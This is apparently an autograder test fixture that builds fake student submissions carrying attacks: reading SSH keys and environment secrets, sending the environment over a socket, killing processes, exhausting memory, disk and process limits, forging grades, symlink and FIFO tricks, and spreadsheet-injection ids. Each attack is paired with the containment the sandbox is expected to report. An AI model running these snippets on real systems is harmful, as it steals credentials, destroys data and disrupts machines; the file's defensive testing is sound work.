"""The hostile class's attacks: what each attacker does, and the status and words it must get.

Each attack is written as an attacker would, without hiding its errors. Most are code run before
the answer to `numerical_diff`; some are planted in the submission folder (`plant`), and a few
honest students have ids that attack the instructor's terminal and spreadsheet (HOSTILE_IDS).
"""
import os
import shutil
from pathlib import Path

import nbformat

from backprop_course.mistakes import before
from backprop_course.sample_class import Work
from pipeline_toy import TOY_STAGE

REPOSITORY = Path(__file__).resolve().parent.parent
SECRET = "hostile-class-secret-7f3a"
MARKER = "hostile-class-survivor"  # in the command line of every process an attacker starts

# Each attack is written as an attacker would, without hiding its errors; {root}, {repo}, {home}
# and {port} are the course folder, the repository, the instructor's HOME and a listening port.
ATTACKS = {
    "neighbour": """import glob, json
from jupyter_client import BlockingKernelClient
found = glob.glob('/tmp/backprop-kernels-*/*/connection.json') + glob.glob('/run/kernels/*/connection.json')
target = found[0] if found else '/tmp/backprop-kernels-0/0/connection.json'
client = BlockingKernelClient(connection_file=target)
client.load_connection_file()""",
    "gradebook": """import sqlite3
db = sqlite3.connect('{root}/gradebook.db')
db.execute('update grade set auto_score = 0')""",
    "survivor": """import subprocess, sys
subprocess.Popen(['setsid', sys.executable, '-c', 'import time; time.sleep(120)  # {marker}'])
open('{root}/submitted/z_honest/{stage}/{stage}.ipynb', 'w').write('{{}}')""",
    "tamper": """open('{repo}/autograd_ref/__init__.py', 'a').write('raise SystemExit')
open('{root}/nbgrader_config.py', 'a').write('raise SystemExit')""",
    "spy": """secrets = [open('{home}/.ssh/id_rsa').read(), str(__import__('os').environ.get('BACKPROP_SECRET'))]
print(secrets)""",
    "exfiltrate": """import os, socket
socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(repr(dict(os.environ)).encode())""",
    "solutions": """print(open('{repo}/solutions/{stage}/{stage}.ipynb').read())""",
    "memory": """hog = bytearray(6 * 1024 ** 3)""",
    "bigfile": """with open('big', 'wb') as file:
    for _ in range(128):
        file.write(bytes(16 * 1024 ** 2))""",
    "storm": """import subprocess
children = [subprocess.Popen(['sleep', '120', '{marker}']) for _ in range(200)]""",
    "parent": """import os
os.kill(os.getppid(), 9)
for pid in range(2, 400):
    os.kill(pid, 9)""",
    "beside": """import beside_helper""",
    "display": """from IPython.display import display
display({{'text/plain': 'x' * 30_000_000}}, raw=True)""",
    "flood": """from IPython.display import display
for _ in range(120):  # each under the limit of one display, its metadata included
    display({{'text/plain': '.'}}, metadata={{'padding': 'z' * 90_000}}, raw=True)""",
    "error_name": """raise type('E' * 12_000_000, (Exception,), {{}})('a name of 12 MB')""",
    "sleepy": """import time
time.sleep(5)""",  # in each of four cells: every one under the timeout, the notebook over its time
    "session": """import subprocess  # a session of its own would get a CPU share of its own
subprocess.Popen(['sleep', '120', '{marker}'], start_new_session=True)""",
    "forged_outcome": """ip = get_ipython()
def forge(*_):  # in every later cell, the test cells too: an outcome display no test block would make
    ip.kernel.session.send(ip.kernel.iopub_socket, 'display_data', {{'metadata': {{}}, 'data': {{
        'application/vnd.backprop-grading.outcome+json': ['not', 'a', 'dict']}}}}, parent=ip.kernel.get_parent())
ip.events.register('pre_run_cell', forge)""",
    # the attacks below are planted in the submission folder (see `plant`); their answers are honest
    "linked_folder": "", "linked_notebook": "", "smuggled": "", "pipe_notebook": "", "forged_grade": "",
}
NOTEBOOK_SECONDS = 12  # the class's limit for a whole notebook (an honest toy notebook runs in about 1 s)
MAX_KEPT = 10_000_000  # the grader's limit on a notebook's kept outputs (GradingExecute.max_notebook_output_chars)
# (status, words in its notes) that say what each attacker tried
CONTAINED = {
    "neighbour": ("contained", "outside its folder"),
    "gradebook": ("contained", "outside its folder"),
    "survivor": ("contained", "outside its folder"),
    "tamper": ("contained", "tried to write outside its folder"),
    "spy": ("contained", "outside its folder"),
    "exfiltrate": ("contained", "tried to use the network"),
    "solutions": ("contained", "outside its folder"),
    "memory": ("contained", "ran out of memory (limit 2 GiB"),
    "bigfile": ("contained", "over the size limit (64 MiB)"),
    "storm": ("contained", "too many processes"),
    "parent": ("contained", "tried to reach a process outside its sandbox"),
    "beside": ("errors", "No module named 'beside_helper'"),
    "display": ("ok", "displayed 30,000,000 characters at once; dropped"),
    "flood": ("killed", f"outputs passed {MAX_KEPT:,} characters, so the kernel was stopped"),
    "error_name": ("errors", "raised EEEEEEEE"),
    "sleepy": ("timeout", f"the notebook ran over {NOTEBOOK_SECONDS} s in all"),
    "linked_folder": ("unreadable", "is a symbolic link, which the grader does not follow"),
    "linked_notebook": ("unreadable", "is a symbolic link, which the grader does not follow"),
    "smuggled": ("ok", "beside the notebook is a symbolic link, which the grader does not follow"),
    "pipe_notebook": ("unreadable", "is not a plain file"),
    "forged_grade": ("repaired", "`bonus`, which this notebook never had"),
    "session": ("contained", "or to start a session of its own"),
    "forged_outcome": ("ok", "flagged for review (interpreter)"),  # the forged displays are ignored
}


def plant(attack, folder, root, home):
    """Change a written submission's folder (submitted/<attack>/<stage>/) the way `attack` does."""
    notebook = folder / f"{TOY_STAGE}.ipynb"
    if attack == "linked_folder":  # the instructor's notebooks, solutions and all, as its own
        shutil.rmtree(folder.parent)
        folder.parent.symlink_to(root / "source")
    elif attack == "linked_notebook":  # the honest student's notebook as its own
        notebook.unlink()
        notebook.symlink_to(root / "submitted" / "a_honest" / TOY_STAGE / notebook.name)
    elif attack == "smuggled":  # feedback copies the files beside a notebook back to the student
        (folder / "notes.txt").symlink_to(home / ".ssh" / "id_rsa")
        (folder / "gone.txt").symlink_to(folder / "no such file")
        os.mkfifo(folder / "pipe")
    elif attack == "pipe_notebook":  # reading it would wait for ever
        notebook.unlink()
        os.mkfifo(notebook)
    elif attack == "forged_grade":  # a test cell of its own, worth 100 points, and an answer cell made a test
        forged = nbformat.read(notebook, as_version=4)
        grading = {"grade": True, "grade_id": "bonus", "points": 100, "locked": True, "solution": False,
                   "schema_version": 3}
        forged.cells.append(nbformat.v4.new_code_cell("print('free points')", metadata={"nbgrader": grading}))
        answer = next(cell for cell in forged.cells if cell.metadata.get("nbgrader", {}).get("solution"))
        answer.metadata.nbgrader.update(grade=True, points=100)
        nbformat.write(forged, notebook)
    elif attack == "sleepy":
        sleeping = nbformat.read(notebook, as_version=4)
        sleeping.cells[1:1] = [nbformat.v4.new_code_cell(ATTACKS["sleepy"]) for _ in range(3)]
        nbformat.write(sleeping, notebook)


# Honest students whose ids are attacks on the instructor's terminal and spreadsheet.
HOSTILE_IDS = ("=HYPERLINK(\"evil.example\")&honest", "+cmd|calc!honest", "a_honest\u202e",
               "b\nz_honest                 4   -   -   -   -   -   -   -   4 of 69   ok honest")  # no "/": a folder name


# With one process, the attacks aimed at the students after them and at the grader.
SEQUENTIAL = ("neighbour", "gradebook", "survivor", "tamper", "storm", "parent", "smuggled")


def hostile_class(root, home, port, attacks=ATTACKS):
    """student -> Work: honest `a_honest`, then per attack `<attack>` and `<attack>_honest` after it."""
    values = {"root": root, "repo": REPOSITORY, "home": home, "port": port, "marker": MARKER, "stage": TOY_STAGE}
    students = {"a_honest": Work()}
    for attack in attacks:
        code = ATTACKS[attack]
        students[attack] = Work(answers=(before("numerical_diff", code.format(**values)),) if code else ())
        students[f"{attack}_honest"] = Work()
    students.update({student: Work() for student in (HOSTILE_IDS if attacks == ATTACKS else ())})
    students["z_honest"] = Work()
    return students
